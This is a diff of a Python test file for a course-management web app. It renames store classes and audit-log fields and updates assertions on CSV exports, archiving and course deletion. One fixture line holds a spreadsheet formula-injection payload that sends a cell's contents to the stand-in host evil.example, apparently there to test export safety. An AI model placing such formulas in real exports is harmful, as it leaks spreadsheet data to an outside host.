@@ -17,13 +17,13 @@ from fastapi import FastAPI
 
 from app.exchange.course_files import CourseFiles
 from app.grading.grade import grade
-from app.store import Fixed, Graded, Plan, Policies, Spot, Student, Teacher
-from app.store.classwork import Draft
-from app.store.tables import log, metadata
+from app.store import Graded, Plan, Policies, Student, SubmissionKey, Teacher, VariantSizes
+from app.store.classwork import ClassDraft
+from app.store.tables import audit_log, metadata
 from tests.helpers.school import School
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
-LLAMA = Fixed("llama-7b", 100)
+LLAMA = VariantSizes("llama-7b", 100)
 
 
 def read(text: str) -> list[dict[str, str]]:
@@ -64,10 +64,10 @@ class Taught:
         variant = self.school.library.variant(sheet)
         report = grade(variant, answers)
         marks = {str(blank): mark.kind for blank, mark in report.marks.items()}
-        spot = Spot(who.id, self.activity.id, 1, item, self.activity.content.items[item].sheet)
-        fixed = Fixed(variant.model.key, variant.tokens)
+        key = SubmissionKey(who.id, self.activity.id, 1, item + 1, self.activity.content.items[item].sheet_key)
+        sizes = VariantSizes(variant.model.key, variant.tokens)
         graded = Graded(marks, (), report.score, report.out_of)
-        self.work.record(spot, client, Draft(answers, 1, fixed), graded, handed_in=True)
+        self.work.record(key, client, ClassDraft(answers, 1, sizes), graded, handed_in=True)
 
     def get(self, name: str) -> Any:
         with self.school.browser(teacher=self.ada) as browser:
@@ -104,7 +104,7 @@ def test_an_export_holds_while_somebody_joins(app_on_each_database: FastAPI) -> 
 
 
 def test_every_box_of_every_try_has_a_row(app_on_each_database: FastAPI) -> None:
-    """Three tries of fourteen boxes are 42 rows; what was typed and its mark stand in them, and which try counts."""
+    """Three attempts of fourteen boxes are 42 rows; what was typed and its mark stand in them, and which try counts."""
     taught = Taught(app_on_each_database)
     got = taught.get("answers.csv")
     assert got.headers["content-disposition"] == 'attachment; filename="transformers-1-answers.csv"'
@@ -204,11 +204,12 @@ def test_exports_and_the_rest_are_in_the_log_by_number(taught: Taught) -> None:
         browser.post(f"/courses/{taught.course.id}/students/{taught.lou.id}/free")
         page = browser.get(f"/courses/{taught.course.id}/exports").text
     assert "exported answers.csv" in page
-    assert "name freed" in page
+    assert "student released" in page
     assert "Ada" in page
     with taught.school.store.engine.connect() as connection:
-        rows = connection.execute(sa.select(log.c.who, log.c.what, log.c.object)).all()
-    assert (f"teacher {taught.ada.id}", "exported answers.csv", f"course {taught.course.id}") in rows
+        rows = connection.execute(sa.select(audit_log)).all()
+    exported = ("teacher", taught.ada.id, "exported", "course", taught.course.id, "answers.csv")
+    assert exported in [(r.actor_kind, r.actor_id, r.action, r.object_kind, r.object_id, r.detail) for r in rows]
     assert not any(word in str(rows) for word in ("Ada", "Kim", "Transformers", "evil"))
 
 
@@ -222,9 +223,9 @@ def roles(taught: Taught, role: str) -> Teacher:
 def test_an_archived_course_is_read_and_not_changed(taught: Taught) -> None:
     """Out of the list, no way in, nothing taken in, nothing changed, all to be seen and taken home; and back again."""
     course, activity = f"/courses/{taught.course.id}", f"/activities/{taught.activity.id}"
-    max_, learner = taught.school.student(taught.course, "Max")
+    max_, visitor = taught.school.student(taught.course, "Max")
     sheet = f"/class/{taught.activity.id}/1"
-    with taught.school.browser(teacher=taught.ada) as ada, taught.school.browser(learner=learner) as browser:
+    with taught.school.browser(teacher=taught.ada) as ada, taught.school.browser(visitor=visitor) as browser:
         assert browser.post(f"{sheet}/save", data={"queries.rows": "1"}).status_code == 200
         assert ada.post(f"{course}/archive").status_code == 303
         listed = ada.get("/courses").text
@@ -270,11 +271,12 @@ def test_a_deleted_course_leaves_nothing_behind(app_on_each_database: FastAPI) -
         assert ada.post(path, data={"title": "Transformers 1"}).status_code == 303
         assert ada.get(f"/courses/{gone.course.id}").status_code == 404
     after = whole(store)
-    kept = {"teachers", "sessions", "learners", "log", "links"}
+    kept = {"teachers", "sessions", "visitors", "audit_log", "account_links"}
     assert {name for name in after if after[name] != before[name]} <= kept
-    assert not any(row.course_id == gone.course.id for row in after["links"])
-    assert next(row for row in after["log"] if row.what == "course deleted").object == f"course {gone.course.id}"
-    everything = str({name: rows for name, rows in after.items() if name != "log"})
+    assert not any(row.course_id == gone.course.id for row in after["account_links"])
+    entry = next(row for row in after["audit_log"] if row.action == "course deleted")
+    assert (entry.object_kind, entry.object_id) == ("course", gone.course.id)
+    everything = str({name: rows for name, rows in after.items() if name != "audit_log"})
     assert not any(word in everything for word in ("Transformers 1", f"{gone.kim.id} wonders", gone.activity.join_code))
 
 
